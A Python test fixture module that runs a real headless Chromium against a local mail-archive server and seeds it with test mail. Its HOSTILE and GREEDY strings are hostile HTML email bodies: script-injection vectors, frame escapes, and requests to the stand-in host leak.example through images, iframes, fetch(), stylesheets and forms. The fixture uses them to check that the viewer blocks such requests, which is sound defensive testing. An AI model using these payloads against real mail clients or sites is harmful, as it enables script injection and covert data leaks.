"""A real Chromium against a real server on loopback."""

import shutil
import socket
import time
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect, sync_playwright

from amberpost.signin.first_operator import make_setup_link
from tests.app.pages import ALICES_MAIL, PASSWORD
from tests.archive import Archive
from tests.furnished import furnished_folder  # noqa: F401  fixture
from tests.opened import Opened, _set_hashers
from tests.people import ALICE, BOB, CHARLIE, letter, report
from tests.processes import kill_all

expect.set_options(timeout=30_000)  # other tests run on the same machine
CHROMIUM = shutil.which("chromium")
OPTIONS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
# What mail may try: run, fetch, send, leave its frame. Each would ask leak.example or change the title.
HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=http://leak.example/meta">
<link rel="stylesheet" href="http://leak.example/link.css"><base href="http://leak.example/">
<style>@import "http://leak.example/import.css"; body{background:url(http://leak.example/style)}</style></head>
<body onload="top.document.title='pwned'" background="http://leak.example/background">Harmloser Text
<img src="http://leak.example/img"><img src=x onerror="top.document.title='pwned'">
<img srcset="http://leak.example/srcset 2x"><p style="background-image:url('http://leak.example/inline')">p</p>
<svg><image href="http://leak.example/svg"/><script>top.document.title='pwned'</script></svg>
<iframe src="http://leak.example/iframe"></iframe><object data="http://leak.example/object"></object>
<video poster="http://leak.example/poster" src="http://leak.example/video"></video>
<form action="http://leak.example/form"><input type="submit" autofocus></form>
<script src="http://leak.example/script"></script><script>fetch('http://leak.example/fetch')</script>
<a href="javascript:top.document.title='pwned'">Klick</a></body></html>"""

ROWS = [f"Posten {n}" for n in range(1, 61)]
# A mail longer than any window, its rows wide enough to break on a phone, and the last one folded away.
WARE = "Bernstein, geschliffen, in einzelnen Beuteln, mit Zertifikat und einer Rechnung für jeden der drei Standorte"
LONG = f"""<h2>Lieferschein</h2><table style="width:100%" border="1">{
    "".join(f"<tr><td>{row}</td><td>{WARE}</td></tr>" for row in ROWS[:-1])
}</table><details><summary>Rest</summary>{ROWS[-1]}</details>"""
# What mail may try with a frame that grows and a page for paper.
GREEDY = """<div style="height:150vh!important">Kopf</div><div style="height:10px !important">eng<br>eng<br>eng</div>
<script>parent.postMessage(150000, "*")</script><svg onload="parent.postMessage(150000, '*')"></svg>
<img src=x onerror="parent.postMessage(150000, '*')"><iframe srcdoc="<script>top.postMessage(150000,'*')</script>">
</iframe><p style="margin-top:-900px;position:fixed;top:0;background:#fff;height:500px">gefälscht</p>
<span style="padding:900px;background:#fff">darüber</span><form action="http://leak.example/form">
<button formaction="http://leak.example/button" id="content" name="mail">Senden</button></form>"""


@dataclass
class Served:
    """A running archive, and what browsers saw that they should not."""

    url: str
    setup_token: str
    browser: Browser
    opened: Opened
    asked: list[str] = field(default_factory=list)  # foreign addresses
    complaints: list[str] = field(default_factory=list)  # console errors, script errors, CSP violations

    @property
    def commands(self) -> Archive:
        return self.opened.commands

    def context(self, **options: object) -> BrowserContext:
        context = self.browser.new_context(**options)  # type: ignore[arg-type]
        context.on("request", self._note)
        return context

    def page(self, login: str = "", **options: object) -> Page:
        page = self.context(**options).new_page()
        page.on("console", lambda message: message.type == "error" and self.complaints.append(message.text))
        page.on("pageerror", lambda error: self.complaints.append(str(error)))
        if login:
            sign_in(page, self.url, login)
        return page

    def _note(self, request: object) -> None:
        url = request.url  # type: ignore[attr-defined]
        if not url.startswith((self.url, "data:", "about:", "blob:")):
            self.asked.append(url)


def sign_in(page: Page, url: str, login: str, password: str = PASSWORD) -> None:
    page.goto(f"{url}/sign-in/")
    page.get_by_label("Login").fill(login)
    page.get_by_label("Password").fill(password)
    with page.expect_navigation():  # loaded whole: a key pressed before the scripts run is lost
        page.get_by_role("button", name="Sign in").click()


def search(page: Page, words: str) -> None:
    field = page.get_by_role("searchbox")
    field.fill(words)
    field.press("Enter")
    page.wait_for_url("**/search/*/")


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    """One for all tests of a file, as each page has a context of its own. While it runs, its event loop keeps
    this thread from the database."""
    if CHROMIUM is None:
        pytest.skip("no chromium")
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=OPTIONS)
        yield browser
        browser.close()


@pytest.fixture(scope="session")
def _peopled(_empty: Path, tmp_path_factory: pytest.TempPathFactory, django_db_blocker: Any) -> Path:
    """An archive with people and mail, to copy; `token` opens the operator's first page."""
    folder = tmp_path_factory.mktemp("peopled")
    shutil.copytree(_empty, folder, dirs_exist_ok=True)
    with django_db_blocker.unblock():
        opened = Opened.enter(folder / "archive")
        _set_hashers(["django.contrib.auth.hashers.Argon2PasswordHasher"])  # the only one the server knows
        for person in (ALICE, BOB, CHARLIE):
            opened.add_user(person.login, *person.addresses)
        opened.add_user("otto", role="operator")
        opened.take(
            ALICES_MAIL,
            report(
                letter(2, subject="Vertraulich"),
                recipients=["To: alice@firma.example", "Bcc: bob@firma.example"],
            ),
            letter(3, subject="Falle", fields=["Content-Type: text/html; charset=utf-8"], text=HOSTILE),
            *(letter(n, subject=f"Lieferung {n}") for n in range(10, 16)),
            letter(20, subject="Lang", fields=["Content-Type: text/html; charset=utf-8"], text=LONG),
            letter(21, subject="Gierig", fields=["Content-Type: text/html; charset=utf-8"], text=GREEDY),
            letter(22, subject="Schlicht", text="\r\n".join(ROWS)),
        )
        (folder / "token").write_text(make_setup_link())
        opened.leave()
    return folder


@pytest.fixture
def served(_peopled: Path, chromium: Browser, new_opened: Callable[..., Opened]) -> Iterator[Served]:
    port = _free_port()
    opened = new_opened(like=_peopled, listen=f"127.0.0.1:{port}")
    server = opened.commands.start("serve", "--web-only", "--listen", f"127.0.0.1:{port}")
    url = f"http://127.0.0.1:{port}"
    try:
        _wait_for(f"{url}/health")
        token = (_peopled / "token").read_text()
        yield Served(url=url, setup_token=token, browser=chromium, opened=opened)
    finally:
        kill_all(server)
        for context in chromium.contexts:
            context.close()


def _free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return int(probe.getsockname()[1])


def _wait_for(url: str) -> None:
    for _ in range(150):
        try:
            urllib.request.urlopen(url, timeout=2).close()
            return
        except OSError:
            time.sleep(0.2)
    raise AssertionError(f"{url} does not answer")
